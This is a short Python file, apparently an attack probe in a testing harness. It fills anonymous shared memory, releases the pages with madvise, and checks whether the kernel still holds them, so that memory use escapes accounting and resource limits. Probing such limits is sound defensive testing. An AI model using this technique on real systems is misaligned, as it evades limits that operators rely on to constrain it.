"""Fills shared memory without a name and lets go of its pages, so that no process has them any more and the kernel keeps them."""

import mmap
import time

from aim import MIB, loot

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        held = []
        for _ in range(56):
            part = mmap.mmap(-1, 25 * MIB, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            for page in range(0, len(part), mmap.PAGESIZE):
                part[page] = 1
            part.madvise(mmap.MADV_DONTNEED)
            held.append(part)
            time.sleep(0.02)
        time.sleep(1.2)
        if all(part[len(part) // 4096 * 2048] for part in held):
            loot(f"{25 * len(held)} MiB")
